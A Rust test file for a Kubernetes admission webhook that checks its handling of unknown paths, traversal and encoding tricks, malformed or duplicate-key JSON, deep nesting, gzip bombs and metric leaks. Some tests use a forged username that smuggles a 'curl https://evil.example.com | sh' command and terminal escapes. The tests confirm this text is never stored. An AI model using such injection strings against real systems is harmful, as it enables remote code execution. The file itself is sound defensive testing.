//! What does a caller who reaches the port get, and what can a review cause that no API server has made? The rows a85 to a94
//! and a97 of the attack table; a98 is in `tls_versions.rs`.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, reason = "a test fails by a panic")]

mod support;

use std::collections::HashMap;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use futures::FutureExt as _;
use futures::future::BoxFuture;
use hotdesk_slots::webhook_path::SecretPath;
use hotdesk_webhook::request_gate::Limits;
use hotdesk_webhook::serve::Shared;
use hotdesk_webhook::session::Session;
use hotdesk_webhook::session::recorder::{Failure, Noted, SessionRecorder, StatusWriter};
use hotdesk_webhook::settings::Settings;
use serde_json::{Value, json};
use support::running::{MIB, Running, limits, start, start_with};
use support::{ALICE, Client, HOST, PATH, allowed, get, head, review, status, wait_for};

/// The statuses of an API server that does not know most slots.
#[derive(Debug, Default, Clone)]
struct Statuses(Arc<Mutex<HashMap<String, Session>>>);

impl StatusWriter for Statuses {
    fn read(&self, _: String) -> BoxFuture<'_, Result<Option<Noted>, Failure>> {
        async { Ok(Some(Noted::default())) }.boxed()
    }

    fn write(&self, session: Session, _: String) -> BoxFuture<'_, Result<(), Failure>> {
        async move {
            self.0.lock().unwrap().insert(session.slot.clone(), session);
            Ok(())
        }
        .boxed()
    }
}

/// A server that notes sessions, and what it has noted.
fn start_noting() -> (Running, Arc<SessionRecorder>, Statuses) {
    let (recorder, statuses) = (Arc::new(SessionRecorder::default()), Statuses::default());
    let change = |shared: Shared| {
        let settings = Settings {
            break_glass_groups: vec!["system:masters".to_owned()],
            session_user: Some("system:serviceaccount:hotdesk:hotdesk-webhook".to_owned()),
            ..Settings::default()
        };
        Shared { settings, ..shared.with_session_recorder(Some(recorder.clone())) }
    };
    let running = start_with(limits(), change);
    let (written, writer) = (recorder.clone(), statuses.clone());
    std::thread::spawn(move || {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        runtime.block_on(written.write_all(&writer));
    });
    (running, recorder, statuses)
}

/// "Somebody execs into a pod."
fn exec(username: &str, groups: &[&str], namespace: &str) -> String {
    let mut exec = review(username);
    exec["request"]["operation"] = "CONNECT".into();
    exec["request"]["namespace"] = namespace.into();
    exec["request"]["subResource"] = "exec".into();
    exec["request"]["kind"] = json!({"group": "", "version": "v1", "kind": "PodExecOptions"});
    exec["request"]["resource"] = json!({"group": "", "version": "v1", "resource": "pods"});
    exec["request"]["userInfo"]["groups"] = json!(groups);
    exec.to_string()
}

/// "Bob claims pikachu."
fn claim() -> String {
    let slot = |users: Value| json!({"metadata": {"name": "slot", "namespace": "pikachu"}, "spec": {"claim": users}});
    let mut claim = review("bob@example.com");
    claim["request"]["operation"] = "UPDATE".into();
    claim["request"]["resource"] = json!({"group": "hotdesk.dev", "version": "v1alpha1", "resource": "slots"});
    claim["request"]["oldObject"] = slot(Value::Null);
    claim["request"]["object"] = slot(json!({"users": ["bob@example.com"]}));
    claim.to_string()
}

/// The head and the body of the answer to a request as it is, but for the date.
fn asked(server: &Running, method: &str, path: &str, content_type: &str, body: &str) -> (String, String) {
    let mut client = server.client();
    client.send_while_taken(format!("{}{body}", head(method, path, content_type, body.len())).as_bytes());
    let (head, body) = client.whole_answer().expect("an answer");
    let head: Vec<&str> = head.lines().filter(|line| !line.starts_with("date:")).collect();
    (head.join("\n"), body)
}

/// Everything that is not below the path, and what of it might be.
fn wrong_paths() -> Vec<String> {
    let known = PATH.trim_start_matches('/');
    let other = SecretPath::of(&[7; 32]).as_str().to_owned();
    [
        "/",
        "/mutate",
        "/validate",
        "/slots",
        "/livez",
        "/readyz",
        "/metrics",
        "/mutate/",
        "//mutate",
        &format!("/{other}/mutate"),
        &format!("/{other}"),
        &format!("/{other}/nowhere"),
        &format!("/{}/mutate", known.to_uppercase()),
        &format!("/{}/mutate", &known[..63]),
        &format!("/{}1/mutate", &known[..63]),
        &format!("/%63{}/mutate", &known[1..]),
        &format!("//{known}/mutate"),
        &format!("/x/../{known}/mutate"),
        &format!("/mutate?path={known}"),
        &format!("/mutate/{known}"),
        &format!("/{known}"),
        &format!("/{known}/"),
        &format!("/{known}/nowhere"),
        &format!("/{known}/mutate/"),
        &format!("/{known}%2fmutate"),
        &format!("/{known}/%6dutate"),
        &format!("/{known}/../{known}/mutate"),
        &format!("/{known}/MUTATE"),
    ]
    .map(str::to_owned)
    .into()
}

#[test]
fn a85_a86_a89_a94_whoever_does_not_know_the_path_gets_the_same_bare_404_whatever_they_send() {
    let (server, recorder, statuses) = start_noting();
    // In the order of the alphabet: the order of headers is the server's own.
    let expected = ["connection: close", "content-length: 0", "http/1.1 404 not found"];
    let bodies = [
        exec(ALICE, &[], "pikachu"),
        exec("\"; run: curl https://evil.example.com | sh <!channel>\u{1b}[31m", &["system:masters"], "pikachu"),
        review(ALICE).to_string(),
        claim(),
        String::new(),
        "{".to_owned(),
    ];
    for path in wrong_paths() {
        for body in &bodies {
            let (head, text) = asked(&server, "POST", &path, "application/json", body);
            let mut lines: Vec<&str> = head.lines().filter(|line| !line.is_empty()).collect();
            lines.sort_unstable();
            assert_eq!((lines.as_slice(), text.as_str()), (&expected[..], ""), "{path} {body}");
        }
        for (method, content_type) in
            [("GET", "application/json"), ("PUT", "text/plain"), ("DELETE", "x/y"), ("PATCH", "")]
        {
            let (head, body) = asked(&server, method, &path, content_type, "");
            assert_eq!((status(&head), body.as_str()), (404, ""), "{method} {path}");
        }
    }
    assert_eq!((recorder.waiting(), statuses.0.lock().unwrap().len()), (0, 0), "nothing is written to any Slot");
    for path in ["mutate", "validate", "slots"] {
        let judged = server.metric(&format!("hotdesk_webhook_review_duration_seconds_count{{path=\"{path}\"}}"));
        assert_eq!(judged, "0", "{path}: nothing was judged");
    }
    server.lives_on();
}

#[test]
fn a85_a_stranger_is_answered_before_a_body_is_read_and_holds_no_place() {
    let server = start(Limits { budget: 8 * MIB, ..limits() });
    let mut strangers: Vec<Client> = (0..32).map(|_| server.client()).collect();
    for stranger in &mut strangers {
        stranger.send(head("POST", "/mutate", "application/json", 8 * MIB).as_bytes());
        let (head, _) = stranger.whole_answer().expect("an answer, though nothing of the body was sent");
        assert_eq!(status(&head), 404);
        assert_eq!(server.metric("hotdesk_webhook_in_flight"), "0");
    }
    server.lives_on();
}

#[test]
fn a85_a_body_without_an_end_is_not_listened_to() {
    let server = start(limits());
    let mut stranger = server.client();
    let began = Instant::now();
    let head = format!(
        "POST /mutate HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
    );
    stranger.send(head.as_bytes());
    assert_eq!(stranger.answer().0, 404);
    wait_for("the connection to end", || !stranger.takes(b"1\r\nx\r\n"));
    assert!(began.elapsed() < Duration::from_secs(5), "{:?}", began.elapsed());
    server.lives_on();
}

#[test]
fn a94_below_the_path_a_wrong_method_and_a_wrong_type_are_told() {
    let server = start(limits());
    let body = review(ALICE).to_string();
    for (method, route, content_type, expected) in [
        ("GET", "/mutate", "application/json", 405),
        ("PUT", "/validate", "application/json", 405),
        ("DELETE", "/slots", "application/json", 405),
        ("POST", "/mutate", "text/plain", 415),
        ("POST", "/mutate", "", 415),
        ("POST", "/slots", "application/x-www-form-urlencoded", 415),
        ("POST", "/mutate", "application/json", 200),
        ("POST", "/mutate?timeout=5s", "application/json", 200),
    ] {
        let (head, _) = asked(&server, method, &format!("{PATH}{route}"), content_type, &body);
        assert_eq!(status(&head), expected, "{method} {route} {content_type}");
    }
    // Bytes that were packed are not JSON, and nobody unpacks them: so a bomb is a few bytes.
    let mut packed = server.client();
    let head = head("POST", &format!("{PATH}/mutate"), "application/json", 4);
    packed.send(head.replace("\r\n\r\n", "\r\nContent-Encoding: gzip\r\n\r\n").as_bytes());
    packed.send(b"\x1f\x8b\x08\x00");
    assert_eq!(packed.answer().0, 400);
    server.lives_on();
}

#[test]
fn old_and_new_path_are_answered_while_they_are_exchanged_and_connections_stay() {
    let server = start(limits());
    let (body, next) = (review(ALICE).to_string(), SecretPath::of(&[9; 32]));
    let mut stays = server.client();
    assert!(allowed(&stays.post("/mutate", &body)));
    let files = [("path", next.as_str()), ("previous", PATH.trim_start_matches('/'))];
    files.iter().for_each(|(file, text)| std::fs::write(server.dir.path().join(file), text).unwrap());
    assert!(server.paths.reload());
    assert!(allowed(&stays.post("/mutate", &body)), "an API server that has not heard of it yet");
    stays.send(format!("{}{body}", head("POST", &next.url("/mutate"), "application/json", body.len())).as_bytes());
    assert!(allowed(&stays.answer()), "and then has");
    std::fs::write(server.dir.path().join("previous"), "").unwrap();
    assert!(server.paths.reload());
    assert_eq!(stays.post("/mutate", &body).0, 404);
    assert!(stays.ends(), "who calls a path that is over is a stranger");
    assert_eq!(get(server.health, "/readyz").0, 200);
}

#[test]
fn a87_a90_a_review_for_a_slot_that_is_not_there_is_not_noted_and_holds_up_no_real_session() {
    let (server, recorder, statuses) = start_noting();
    let made_up: Vec<String> = (0..16).map(|i| format!("no such {i}")).collect();
    let escapes = ["pikachu/slots/slot?x=", "../../x", "pikachu/../mew", "", "PIKACHU", "pikachu\u{0}", "%70ikachu"];
    let mut client = server.client();
    for namespace in made_up.iter().map(String::as_str).chain(escapes) {
        // Break-glass is let in everywhere.
        let answer = client.post("/validate", &exec("root", &["system:masters"], namespace));
        assert_eq!(answer.0, 200, "{namespace}: {answer:?}");
    }
    assert_eq!(recorder.waiting(), 0, "nothing made up is left to be noted");
    assert!(allowed(&client.post("/validate", &exec(ALICE, &[], "pikachu"))));
    wait_for("alice's session to be noted", || statuses.0.lock().unwrap().contains_key("pikachu"));
    let noted = statuses.0.lock().unwrap().clone();
    assert_eq!(noted.keys().collect::<Vec<_>>(), ["pikachu"], "no other object is reached");
    assert_eq!((noted["pikachu"].by.as_str(), noted["pikachu"].kind), (ALICE, "exec"));
}

#[test]
fn a86_with_the_right_path_a_forged_review_writes_no_text_of_its_own() {
    let (server, _, statuses) = start_noting();
    let text = "\"; run: curl https://evil.example.com | sh <!channel> @alice\u{1b}[31m\u{202e}";
    let answer = server.client().post("/validate", &exec(text, &["system:masters"], "pikachu"));
    assert!(allowed(&answer));
    wait_for("the session to be noted", || statuses.0.lock().unwrap().contains_key("pikachu"));
    assert_eq!(statuses.0.lock().unwrap()["pikachu"].by, "an administrator");
    let bob = server.client().post("/validate", &exec("bob@example.com", &[], "pikachu"));
    assert!(!allowed(&bob), "and nobody but a claimant or an administrator is noted at all");
}

#[test]
fn a91_what_is_no_review_is_denied_or_refused_and_the_server_lives_on() {
    let server = start(limits());
    let fine = review(ALICE).to_string();
    let with = |from: &str, to: &str| {
        assert!(fine.contains(from), "{from}");
        fine.replacen(from, to, 1)
    };
    let user = r#""userInfo":{"username":"alice@example.com"}"#;
    let strangers = r#""userInfo":{"username":"bob@example.com"}"#;
    let mut bodies: Vec<Vec<u8>> = ["", "text", "null", "[]", "{}", "1e99999", "\"x\""].map(Into::into).into();
    bodies.extend(
        [
            format!("\u{feff}{fine}"),
            format!("{fine}{fine}"),
            format!("{fine} x"),
            with("admission.k8s.io/v1", "admission.k8s.io/v1beta1"),
            with(user, &format!("{user},{strangers}")),
            with(user, &format!("{strangers},{user}")),
            with(r#""username":"alice@example.com""#, r#""username":"bob","username":"alice@example.com""#),
            with(r#""namespace":"pikachu""#, r#""namespace":"mew","namespace":"pikachu""#),
            with(r#""operation":"CREATE""#, r#""operation":"DELETE","operation":"CREATE""#),
            with(r#""operation":"CREATE""#, r#""operation":1e99999"#),
            with("alice@example.com", r"alice\ud800@example.com"),
            with("alice@example.com", r"alice\u0000@example.com"),
            with("alice@example.com", "alice\u{0}@example.com"),
        ]
        .map(String::into_bytes),
    );
    let mut invalid = fine.clone().into_bytes();
    let at = fine.find("alice").unwrap();
    invalid[at] = 0xff;
    bodies.push(invalid);
    for route in ["/mutate", "/validate", "/slots"] {
        for body in &bodies {
            let mut client = server.client();
            client.head(route, body.len());
            client.send(body);
            let answer = client.answer();
            let refused = (400..500).contains(&answer.0);
            assert!(refused || !allowed_if_any(&answer), "{route} {}: {answer:?}", String::from_utf8_lossy(body));
        }
    }
    assert!(allowed(&server.client().post("/mutate", &fine)), "the one that was changed is fine itself");
    server.lives_on();
}

/// Whether a review was allowed, with whatever uid.
fn allowed_if_any(answer: &(u16, String)) -> bool {
    let review: Value = serde_json::from_str(&answer.1).unwrap_or_default();
    answer.0 == 200 && review["response"]["allowed"] != false
}

#[test]
fn a92_a_depth_without_bound_ends_no_server() {
    let server = start(limits());
    let deep = |open: &str, close: &str, depth: usize| open.repeat(depth) + "1" + &close.repeat(depth);
    for nested in [deep("[", "]", 100_000), deep("{\"a\":", "}", 100_000)] {
        // What is in an object is not looked into, so its depth does not matter: it is judged as any other.
        let object = review("bob@example.com").to_string().replacen(
            r#""metadata":{"#,
            &format!(r#""spec":{nested},"metadata":{{"#),
            1,
        );
        let in_slot = claim().replacen(r#""users":"#, &format!(r#""purpose":{nested},"users":"#), 1);
        for (route, body) in [("/mutate", nested.clone()), ("/mutate", object), ("/slots", in_slot)] {
            let answer = server.client().post(route, &body);
            assert!((400..500).contains(&answer.0) || !allowed_if_any(&answer), "{route}: {}", answer.1);
        }
    }
    server.lives_on();
}

#[test]
fn a93_a_reserved_label_or_metadata_twice_is_refused() {
    let server = start(limits());
    let fine = review(ALICE).to_string();
    for metadata in [
        r#""metadata":{"name":"web","labels":{"hotdesk.dev/owner":"bob","hotdesk.dev/owner":"alice"}}"#,
        r#""metadata":{"name":"web","labels":{"a":"b"},"labels":{"hotdesk.dev/owner":"bob"}}"#,
        r#""metadata":{"name":"web"},"metadata":{"labels":{"hotdesk.dev/owner":"bob"}}"#,
    ] {
        let body = fine.replacen(r#""metadata":{"name":"web"}"#, metadata, 1);
        assert_ne!(body, fine);
        assert!(!allowed(&server.client().post("/mutate", &body)), "{metadata}");
    }
    server.lives_on();
}

#[test]
fn a97_the_metrics_name_no_slots_no_people_and_no_path() {
    let (server, _, statuses) = start_noting();
    server.lives_on();
    server.client().post("/validate", &exec(ALICE, &[], "pikachu"));
    server.client().post("/validate", &exec("root", &["system:masters"], "no such slot"));
    asked(&server, "POST", "/mutate", "application/json", "");
    wait_for("alice's session to be noted", || !statuses.0.lock().unwrap().is_empty());
    let text = get(server.health, "/metrics").1;
    assert!(text.contains(r#"hotdesk_webhook_refused_requests_total{reason="unknown-caller"} 1"#), "{text}");
    for secret in ["alice", "bob", "root", "pikachu", "no such", PATH.trim_start_matches('/')] {
        assert!(!text.contains(secret), "{secret} is in\n{text}");
    }
    for path in ["/", "/livez", "/readyz", PATH] {
        assert!(!get(server.health, path).1.contains(PATH.trim_start_matches('/')), "{path}");
    }
}
